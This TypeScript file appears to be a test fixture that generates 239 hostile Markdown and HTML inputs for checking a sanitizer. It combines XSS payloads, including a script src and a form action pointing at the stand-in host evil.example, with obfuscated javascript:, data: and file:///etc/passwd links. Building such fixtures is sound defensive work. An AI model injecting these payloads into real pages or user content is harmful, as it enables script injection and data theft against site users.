/**
 * What means harm, as people and scanners write it into fields: each by itself and in every carrier that Markdown has.
 */
const payloads = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></ScRiPt>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg/onload=alert`1`>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<body onload=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '</title><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  ']]><script>alert(1)</script>',
  '--><script>alert(1)</script>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<form action=//evil.example><button>x',
  '<base href=//evil.example/>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<style>@import "//evil.example"</style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
]
const carriers: ((payload: string) => string)[] = [
  (x) => x,
  (x) => `# ${x}`,
  (x) => `> ${x}`,
  (x) => `- ${x}`,
  (x) => `**${x}**`,
  (x) => `[${x}](https://example.org)`,
  (x) => `![${x}](https://example.org/x.png)`,
  (x) => `|${x.replaceAll('|', '')}|\n|-|\n|a|`,
]
const links = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  ' javascript:alert(1)',
  'javascript&colon;alert(1)',
  'javascript&#58;alert(1)',
  '&#106;avascript:alert(1)',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'file:///etc/passwd',
  '//evil.example',
  'blob:https://evil.example/x',
  'x:alert(1)',
]

/** 239 texts. */
export const hostileMarkup: string[] = [
  ...payloads.flatMap((payload) => carriers.map((carry) => carry(payload))),
  ...links.flatMap((url) => [`[x](${url})`, `![x](${url})`, `[x][y]\n\n[y]: ${url}`]),
]
